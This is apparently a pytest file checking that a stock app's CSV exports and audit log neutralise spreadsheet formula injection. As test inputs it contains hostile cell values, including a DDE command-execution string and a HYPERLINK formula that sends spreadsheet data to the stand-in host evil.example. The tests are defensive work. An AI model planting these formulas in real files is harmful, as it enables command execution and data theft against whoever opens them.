"""Issue 12, finding 3: no CSV export carries a cell a spreadsheet would evaluate, whatever its list separator.

Every cell is quoted, and a formula is defused at the start of a cell and after any separator a
spreadsheet might split it at (`x;=1+1` in a locale whose separator is `;`). Our own exports still
import back to the same values. Sign-in addresses, which anyone can type, reach the audit log only
as a plain address or as a marker.
"""

from __future__ import annotations

import csv
import io
import re
from io import BytesIO

from sqlalchemy import select

from app.csvio import cell, iter_csv, undo_defuse
from app.extensions import db
from app.stock.models import Product
from app.stock.products import ProductData, create_product

HOSTILE_NAMES = ["x;=1+1", "=cmd|' /C calc'!A0", "Tea, +SUM(A1:A2)", "Cups\t@SUM(1)", "Plates; -2+3", "a,=1;=2"]
FORMULA_START = re.compile(r"^\s*[=+\-@\t\r]")
QUOTED_LINE = re.compile(r'^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$')


def _evaluated_cells(text: str) -> list[str]:
    """Cells a spreadsheet would take for a formula, read with `,` and with `;` as the list separator.

    A number (a negative stock figure) is a value, not a formula. Read with `;`, a quoted CSV line
    falls apart at every `;` (as it does in such a locale when a program ignores the quotes): each
    piece must still be harmless, quotes and all.
    """
    found = []
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for value in row:
                for piece in (value, value.strip('"')):
                    if FORMULA_START.match(piece) and not _is_number(piece):
                        found.append(piece)
    return found


def _is_number(text: str) -> bool:
    try:
        float(text.strip())
    except ValueError:
        return False
    return True


def _preview(client, data: bytes):
    return client.post(
        "/stock/import", data={"file": (BytesIO(data), "products.csv")}, content_type="multipart/form-data"
    )


def test_every_cell_is_quoted_no_cell_is_a_formula_and_the_file_imports_back(app, client, auth):
    with app.app_context():
        for n, name in enumerate(HOSTILE_NAMES):
            create_product(ProductData.clean(sku=f"EVIL-{n}", name=name), user_id=None)
        stored = {p.name for p in db.session.scalars(select(Product))}  # as saved: runs of spaces become one
    auth.login_as("staff")

    export = client.get("/stock.csv?status=all")

    text = export.get_data(as_text=True)
    assert export.status_code == 200
    lines = text.split("\r\n")
    assert lines[-1] == ""
    assert len(lines) == len(HOSTILE_NAMES) + 2
    for line in lines[:-1]:
        assert QUOTED_LINE.match(line), line
    assert _evaluated_cells(text) == []
    names = {row["name"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert "x;'=1+1" in names
    assert "'=cmd|' /C calc'!A0" in names

    # Our own export still imports back to exactly the names it was made from.
    with app.app_context():
        db.session.execute(Product.__table__.delete())
        db.session.commit()
    preview = _preview(client, text.encode())
    body = preview.get_data(as_text=True)
    assert preview.status_code == 200, body
    assert f"{len(HOSTILE_NAMES)} to create, 0 to update, 0 unchanged" in body
    token = re.search(r'action="/stock/import/([^"]+)"', body).group(1)
    assert client.post(f"/stock/import/{token}", data={"filename": "products.csv"}).status_code == 303
    with app.app_context():
        assert {p.name for p in db.session.scalars(select(Product))} == stored


def test_defusing_is_undone_exactly_for_values_that_already_had_apostrophes():
    for value in ["'=x", "a;'=b", "a; ''+c", "\t=x", "plain; text, -", "it's fine", "-", "a\n@b"]:
        assert undo_defuse(cell(value)) == value
    out = "".join(iter_csv(["name"], [["x;=1+1"], ["=cmd"]]))
    assert out == '"name"\r\n"x;\'=1+1"\r\n"\'=cmd"\r\n'


def test_a_failed_sign_in_address_cannot_plant_a_formula_in_the_audit_log(app, client, auth, make_user):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "a;=1+1@x.y", "=1+1@x.y", "<b>x</b>@example.com"]
    for address in hostile:
        answer = client.post("/login", data={"email": address, "password": "wrong-password-123"})
        assert answer.status_code == 401
    client.post("/login", data={"email": "Nobody@Example.com ", "password": "wrong-password-123"})
    auth.login_as("admin")

    export = client.get("/admin/audit.csv?action=auth.login_failed")
    page = client.get("/admin/audit?action=auth.login_failed").get_data(as_text=True)

    text = export.get_data(as_text=True)
    assert export.status_code == 200
    for needle in ("HYPERLINK", "evil", "=1+1", "<b>", "&lt;b&gt;"):
        assert needle not in text, needle
        assert needle not in page, needle
    assert text.count("Failed sign-in as (not an email address, fingerprint ") == len(hostile)
    assert "Failed sign-in as nobody@example.com" in text  # a plausible address stays readable
    assert _evaluated_cells(text) == []
    # The same junk twice gives the same fingerprint, so repeated attempts can be told apart.
    client.post("/logout")
    client.post("/login", data={"email": hostile[0], "password": "another-wrong-one"})
    auth.login_as("admin")
    again = client.get("/admin/audit.csv?action=auth.login_failed").get_data(as_text=True)
    fingerprints = re.findall(r"fingerprint ([0-9a-f]{10})", again)
    assert len(fingerprints) == len(hostile) + 1
    assert len(set(fingerprints)) == len(hostile)
